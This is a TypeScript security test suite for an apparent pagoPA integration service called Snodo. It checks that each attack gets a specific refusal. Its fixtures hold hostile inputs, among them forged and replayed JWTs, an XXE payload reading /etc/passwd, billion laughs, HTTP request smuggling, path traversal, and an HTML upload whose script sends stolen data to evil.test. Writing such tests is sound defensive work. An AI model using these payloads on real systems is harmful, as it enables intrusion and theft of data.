// The attack suite (issue 14): Snodo as a real process (sandbox mode), attacked over real HTTP and
// SOAP by its own clients, a stranger and raw sockets. Each row is one attack and the exact answer it
// must get: status and problem `code`, or the SOAP faultcode, plus any header that must be there.
// The live-mode webhook SSRF guard cannot be reached in sandbox mode (it allows loopback there): its
// rows run the guard as live mode builds it, against every special-purpose range.
import { randomUUID } from 'node:crypto'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { createUrlGuard } from '../src/webhooks/url-guard.ts'
import { type Answer, type Attacker, createAttacker } from './support/attack.ts'
import { aReceipt, sendRTCall } from './support/nodo-calls.ts'
import { type SnodoProcess, startSnodo } from './support/sandbox-process.ts'
import { anIntegritySignature } from './support/signed.ts'
import { refusedAddresses } from './support/special-addresses.ts'
import { nowSeconds } from './support/tokens.ts'

type Expected = { status: number; code?: string; soapFault?: string; faultString?: RegExp; headers?: Record<string, string | RegExp> }
type Attack = [name: string, attack: (a: Attacker) => Promise<Answer>, expected: Expected]

const tenant = '/v1/tenants/comune-demo'
const echo = `${tenant}/echo`
const json = JSON.stringify({ hello: 'world' })
const bearer = (token: string) => ({ authorization: `Bearer ${token}` })

/** The sandbox station (src/sandbox/pagopa-sandbox.ts) and a receipt for a notice it never issued. */
const station = { idPA: '00000000000', idBrokerPA: '00000000000', idStation: '00000000000_01' }
const receipt = sendRTCall(
  1,
  station,
  aReceipt({
    receiptId: 'rt-attack',
    noticeNumber: '301000000000000099',
    fiscalCode: station.idPA,
    creditorReferenceId: '01000000000000099',
    paymentAmount: '10.50',
  }),
)
const withDoctype = (doctype: string, entity: string) =>
  receipt.replace('?>', `?>${doctype}`).replace('<description>TARI 2025 rata unica</description>', `<description>${entity}</description>`)
const billionLaughs = ['<!ENTITY lol0 "lol">', ...Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i};`.repeat(10)}">`)].join('')

const html = '<!doctype html><script>fetch("/v1/tenants/comune-demo/practices").then(r => r.text()).then(t => fetch("https://evil.test/?" + t))</script>'

const attacks: Attack[] = [
  // Who is calling (ID_AUTH_REST_02).
  ['no bearer', (a) => a.send('GET', tenant), { status: 401, code: 'token_missing' }],
  ['a bearer that is not a JWT', (a) => a.send('GET', tenant, { headers: bearer('not-a-jwt') }), { status: 401, code: 'token_malformed' }],
  [
    'alg none',
    async (a) =>
      a.send('GET', tenant, {
        headers: bearer(
          `${Buffer.from('{"alg":"none","typ":"JWT"}').toString('base64url')}.${Buffer.from(JSON.stringify({ iss: a.portal.clientId, sub: a.portal.clientId, aud: a.baseUrl, iat: nowSeconds(), exp: nowSeconds() + 60, jti: randomUUID() })).toString('base64url')}.`,
        ),
      }),
    { status: 401, code: 'token_algorithm_not_allowed' },
  ],
  [
    'signed by a key that is not the client’s (same kid)',
    async (a) => a.send('GET', tenant, { headers: bearer(await a.token(a.portal, {}, {}, a.impostor)) }),
    { status: 401, code: 'token_signature_invalid' },
  ],
  [
    'an issuer Snodo does not know',
    async (a) => a.send('GET', tenant, { headers: bearer(await a.token({ ...a.portal, clientId: 'nobody' })) }),
    { status: 401, code: 'token_issuer_unknown' },
  ],
  [
    'a kid the client never registered',
    async (a) => a.send('GET', tenant, { headers: bearer(await a.token(a.portal, {}, { kid: 'not-a-kid' })) }),
    { status: 401, code: 'token_key_unknown' },
  ],
  [
    'another audience',
    async (a) => a.send('GET', tenant, { headers: bearer(await a.token(a.portal, { aud: 'https://elsewhere.test' })) }),
    { status: 401, code: 'token_audience_invalid' },
  ],
  [
    'expired',
    async (a) => a.send('GET', tenant, { headers: bearer(await a.token(a.portal, { iat: nowSeconds() - 600, exp: nowSeconds() - 300 })) }),
    { status: 401, code: 'token_expired' },
  ],
  [
    'issued in the future',
    async (a) => a.send('GET', tenant, { headers: bearer(await a.token(a.portal, { iat: nowSeconds() + 600, exp: nowSeconds() + 660 })) }),
    { status: 401, code: 'token_issued_in_future' },
  ],
  [
    'valid for an hour',
    async (a) => a.send('GET', tenant, { headers: bearer(await a.token(a.portal, { exp: nowSeconds() + 3600 })) }),
    { status: 401, code: 'token_lifetime_too_long' },
  ],
  [
    'the same bearer twice (replay)',
    async (a) => {
      const headers = bearer(await a.token(a.portal))
      expect((await a.send('GET', tenant, { headers })).status).toBe(200)
      return a.send('GET', tenant, { headers })
    },
    { status: 401, code: 'token_replayed' },
  ],

  // What was sent (INTEGRITY_REST_01).
  [
    'a body without Digest',
    async (a) => a.send('POST', echo, { headers: { ...(await a.signedHeaders(a.portal, { body: json })), digest: '' }, body: json }),
    { status: 401, code: 'digest_missing' },
  ],
  [
    'a body changed after signing (digest mismatch)',
    async (a) => a.send('POST', echo, { headers: await a.signedHeaders(a.portal, { body: json }), body: JSON.stringify({ hello: 'attacker' }) }),
    { status: 401, code: 'digest_mismatch' },
  ],
  [
    'a body without Agid-JWT-Signature',
    async (a) => a.send('POST', echo, { headers: { ...(await a.signedHeaders(a.portal, { body: json })), 'agid-jwt-signature': '' }, body: json }),
    { status: 401, code: 'signature_missing' },
  ],
  [
    'an Agid-JWT-Signature that is not a JWS',
    async (a) => a.send('POST', echo, { headers: { ...(await a.signedHeaders(a.portal, { body: json })), 'agid-jwt-signature': 'x.y.z' }, body: json }),
    { status: 401, code: 'signature_invalid' },
  ],
  [
    'an Agid-JWT-Signature of another request (signed headers mismatch)',
    async (a) => {
      const other = await a.signedHeaders(a.portal, { body: '{}' })
      const body = JSON.stringify({ amount: 1 })
      return a.send('POST', echo, {
        headers: { ...(await a.signedHeaders(a.portal, { body })), 'agid-jwt-signature': other['agid-jwt-signature'] as string },
        body,
      })
    },
    { status: 401, code: 'signed_headers_mismatch' },
  ],

  // Whose data (tenancy, scopes).
  ['the office software on another tenant', (a) => a.signed(a.backoffice, 'GET', '/v1/tenants/comune-altro'), { status: 403, code: 'tenant_forbidden' }],
  ['the office software without the scope', (a) => a.signed(a.backoffice, 'GET', `${tenant}/payments/pay_1`), { status: 403, code: 'scope_missing' }],
  ['a tenant that does not exist', (a) => a.signed(a.portal, 'GET', '/v1/tenants/comune-fantasma'), { status: 404, code: 'tenant_not_found' }],
  ['a path that is no route', (a) => a.signed(a.portal, 'GET', `${tenant}/../../etc/passwd`), { status: 404, code: 'not_found' }],
  ['a method the route does not take', (a) => a.send('POST', '/health/live', { body: '{}' }), { status: 405, code: 'method_not_allowed' }],

  // Bodies and requests that are not what they claim.
  ['malformed JSON', (a) => a.signed(a.portal, 'POST', echo, { body: '{"hello": ' }), { status: 400, code: 'malformed_request' }],
  [
    'JSON sent as text/plain',
    (a) => a.signed(a.portal, 'POST', echo, { body: json, contentType: 'text/plain' }),
    { status: 415, code: 'unsupported_media_type' },
  ],
  [
    'a body over limits.bodyBytes (2 MB)',
    (a) => a.signed(a.portal, 'POST', echo, { body: JSON.stringify({ pad: 'x'.repeat(2 * 1024 * 1024) }) }),
    { status: 413, code: 'payload_too_large' },
  ],
  [
    'an Idempotency-Key reused with another body',
    async (a) => {
      const key = randomUUID()
      expect((await a.signed(a.portal, 'POST', echo, { body: json, idempotencyKey: key })).status).toBe(200)
      return a.signed(a.portal, 'POST', echo, { body: JSON.stringify({ hello: 'other' }), idempotencyKey: key })
    },
    { status: 409, code: 'idempotency_key_reused' },
  ],
  [
    '20 KB of headers',
    (a) => a.raw(`GET ${tenant} HTTP/1.1\r\nHost: x\r\nX-Pad: ${'a'.repeat(20 * 1024)}\r\n\r\n`),
    { status: 431, code: 'request_header_too_large', headers: { 'content-type': 'application/problem+json', 'x-content-type-options': 'nosniff' } },
  ],
  ['a request that is not HTTP', (a) => a.raw('BREW /pot HTCPCP/1.0\r\n\r\n'), { status: 400, code: 'malformed_request' }],
  ['a header with a control character', (a) => a.raw(`GET ${tenant} HTTP/1.1\r\nHost: x\r\nX-A: a\u0001b\r\n\r\n`), { status: 400, code: 'malformed_request' }],
  [
    'request smuggling: Content-Length and Transfer-Encoding',
    (a) => a.raw(`POST ${echo} HTTP/1.1\r\nHost: x\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n`),
    { status: 400, code: 'malformed_request' },
  ],

  // Stored documents never run in Snodo's origin.
  [
    'an HTML upload, downloaded',
    async (a) => {
      const up = await a.signed(a.portal, 'POST', `${tenant}/documents`, {
        body: html,
        contentType: 'text/html',
        headers: { 'x-document-name': 'avviso.html' },
      })
      expect(up.status).toBe(201)
      return a.signed(a.portal, 'GET', `${tenant}/documents/${(JSON.parse(up.text) as { sha256: string }).sha256}/content`)
    },
    {
      status: 200,
      headers: {
        'content-type': 'text/html',
        'x-content-type-options': 'nosniff',
        'content-disposition': /^attachment; filename="avviso\.html"/,
        'content-security-policy': /\bsandbox\b/,
      },
    },
  ],

  // The pagoPA station endpoint (XML defences, design §7).
  [
    'XXE on /pagopa/nodo',
    (a) => a.soap(withDoctype('<!DOCTYPE soapenv:Envelope [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', '&xxe;')),
    { status: 500, soapFault: 'soapenv:Client', faultString: /document type declaration/ },
  ],
  [
    'an external DTD on /pagopa/nodo',
    (a) => a.soap(withDoctype('<!DOCTYPE soapenv:Envelope SYSTEM "http://127.0.0.1:9/evil.dtd">', 'x')),
    { status: 500, soapFault: 'soapenv:Client', faultString: /document type declaration/ },
  ],
  [
    'billion laughs on /pagopa/nodo',
    (a) => a.soap(withDoctype(`<!DOCTYPE lolz [${billionLaughs}]>`, '&lol9;')),
    { status: 500, soapFault: 'soapenv:Client', faultString: /document type declaration/ },
  ],
  [
    'a 5 MB envelope on /pagopa/nodo',
    (a) => a.soap(receipt.replace('<description>TARI 2025 rata unica</description>', `<description>${'x'.repeat(5 * 1024 * 1024)}</description>`)),
    { status: 500, soapFault: 'soapenv:Client', faultString: /exceeds \d+ bytes/ },
  ],

  // Only the pagoPA Node may send receipts (issue 14, defect 1): a forged paSendRT is refused before it is read.
  ['a forged paSendRT from an anonymous caller', (a) => a.soap(receipt, { path: '/pagopa/nodo' }), { status: 403, soapFault: 'soapenv:Client' }],
  [
    'a forged paSendRT to a guessed station secret',
    (a) => a.soap(receipt, { path: '/pagopa/nodo/guessed-secret-0123456789' }),
    { status: 403, soapFault: 'soapenv:Client' },
  ],

  // Tokens and signatures: bound to Snodo and to one request (issue 14, defects 2 and 7).
  [
    'a bearer whose aud also names another service',
    async (a) => a.send('GET', tenant, { headers: bearer(await a.token(a.portal, { aud: ['https://elsewhere.test', a.baseUrl] })) }),
    { status: 401, code: 'token_audience_invalid' },
  ],
  [
    'a bearer whose jti is an object',
    async (a) => a.send('GET', tenant, { headers: bearer(await a.token(a.portal, { jti: {} as unknown as string })) }),
    { status: 401, code: 'token_claims_invalid' },
  ],
  [
    'a bearer whose jti is empty',
    async (a) => a.send('GET', tenant, { headers: bearer(await a.token(a.portal, { jti: '' })) }),
    { status: 401, code: 'token_claims_invalid' },
  ],
  [
    'a signed POST replayed byte for byte',
    async (a) => {
      const headers = await a.signedHeaders(a.portal, { body: json, contentType: 'application/json' })
      expect((await a.send('POST', echo, { headers, body: json })).status).toBe(200)
      return a.send('POST', echo, { headers, body: json })
    },
    { status: 401, code: 'token_replayed' },
  ],
  [
    'a POST signed with a PDND voucher, replayed byte for byte',
    async (a) => {
      const headers = { ...(await a.signedHeaders(a.portal, { body: json, contentType: 'application/json' })), ...bearer(await a.voucher()) }
      expect((await a.send('POST', echo, { headers, body: json })).status).toBe(200)
      return a.send('POST', echo, { headers, body: json })
    },
    { status: 401, code: 'token_replayed' },
  ],
  [
    'a PDND voucher used twice, each time with a fresh signature',
    async (a) => {
      const token = await a.voucher()
      expect((await a.send('GET', tenant, { headers: bearer(token) })).status).toBe(200)
      return a.send('POST', echo, {
        headers: { ...(await a.signedHeaders(a.portal, { body: json, contentType: 'application/json' })), ...bearer(token) },
        body: json,
      })
    },
    { status: 401, code: 'token_replayed' },
  ],
  [
    'JSON nested 5,000 deep',
    (a) => a.signed(a.portal, 'POST', echo, { body: `${'['.repeat(5000)}${']'.repeat(5000)}`, contentType: 'application/json' }),
    { status: 400, code: 'validation_failed' },
  ],
  [
    'an Agid-JWT-Signature replayed under a fresh bearer',
    async (a) => {
      const headers = await a.signedHeaders(a.portal, { body: json, contentType: 'application/json' })
      expect((await a.send('POST', echo, { headers, body: json })).status).toBe(200)
      return a.send('POST', echo, { headers: { ...headers, ...bearer(await a.token(a.portal)) }, body: json })
    },
    { status: 401, code: 'signature_replayed' },
  ],
  [
    'the bearer sent again as the Agid-JWT-Signature',
    async (a) => {
      const headers = await a.signedHeaders(a.portal, { body: json, contentType: 'application/json' })
      return a.send('POST', echo, { headers: { ...headers, 'agid-jwt-signature': headers.authorization?.slice('Bearer '.length) as string }, body: json })
    },
    { status: 401, code: 'signature_invalid' },
  ],
  [
    'an Agid-JWT-Signature naming digest twice in signed_headers',
    async (a) => {
      const headers = await a.signedHeaders(a.portal, { body: json, contentType: 'application/json' })
      const signedHeaders = [{ digest: headers.digest }, { 'content-type': 'application/json' }, { Digest: headers.digest }]
      return a.send('POST', echo, {
        headers: {
          ...headers,
          'agid-jwt-signature': await anIntegritySignature(
            a.portal,
            { digest: headers.digest as string, 'content-type': 'application/json' },
            { aud: a.baseUrl, signed_headers: signedHeaders },
          ),
        },
        body: json,
      })
    },
    { status: 401, code: 'signed_headers_mismatch' },
  ],
  [
    'an Agid-JWT-Signature living longer than a bearer may',
    async (a) => {
      const headers = await a.signedHeaders(a.portal, { body: json, contentType: 'application/json' })
      return a.send('POST', echo, {
        headers: {
          ...headers,
          'agid-jwt-signature': await anIntegritySignature(
            a.portal,
            { digest: headers.digest as string, 'content-type': 'application/json' },
            { aud: a.baseUrl, exp: nowSeconds() + 3600 },
          ),
        },
        body: json,
      })
    },
    { status: 401, code: 'signature_invalid' },
  ],
]

let snodo: SnodoProcess
let attacker: Attacker
beforeAll(async () => {
  // info: the access log is part of what is attacked (fiscal codes in paths must not reach it).
  snodo = await startSnodo({ env: { LOG_LEVEL: 'info' } })
  attacker = await createAttacker(snodo)
})
afterAll(() => snodo.stop())

describe('every attack gets its exact refusal', () => {
  it.each(attacks)('%s', async (_, attack, expected) => {
    const answer = await attack(attacker)
    expect({ status: answer.status, code: answer.code, soapFault: answer.soapFault }).toEqual({
      status: expected.status,
      code: expected.code,
      soapFault: expected.soapFault,
    })
    if (expected.faultString) expect(answer.faultString).toMatch(expected.faultString)
    for (const [name, value] of Object.entries(expected.headers ?? {})) expect(answer.headers[name], name).toMatch(value)
    // Never our insides.
    expect(answer.text).not.toMatch(/\.ts:\d|\n\s+at /)
    expect(answer.headers['x-content-type-options']).toBe('nosniff')
  })

  it('fiscal codes glued to other characters in a path or a request id never reach the logs', async () => {
    for (const path of [
      `${tenant}/citizens/RSSMRA80A01H501U_x/timeline`,
      `${tenant}/citizens/xRSSMRA80A01H501U/timeline`,
      `${tenant}/citizens/RSSMRA80A01H501U/timeline?cf=RSSMRA80A01H501Uabc`,
    ]) {
      await attacker.signed(attacker.portal, 'GET', path, { headers: { 'x-request-id': 'attack-cf-RSSMRA80A01H501Uabc' } })
    }
    await snodo.waitForOutput('"requestId":"attack-cf-RSS************Uabc"', 3)
    expect(snodo.output()).not.toMatch(/RSSMRA80A01H501U/i)
  })

  it('Snodo is still serving, and logged no unhandled error', async () => {
    expect((await attacker.signed(attacker.portal, 'GET', tenant)).status).toBe(200)
    expect(snodo.output()).not.toMatch(/unhandled error|"level":50/)
  })
})

describe('live mode: webhook URLs to every special-purpose range are refused (the guard live mode builds)', () => {
  const guard = createUrlGuard({ mode: 'live', allowedPrivate: [] })
  it.each(refusedAddresses)('https://%s (%s)', async (address) => {
    const url = `https://${address.includes(':') ? `[${address}]` : address}/hooks`
    expect(await guard.refusal(url)).toMatch(/not globally reachable/)
    expect(guard.literalRefusal(url)).toMatch(/not globally reachable/)
  })
})
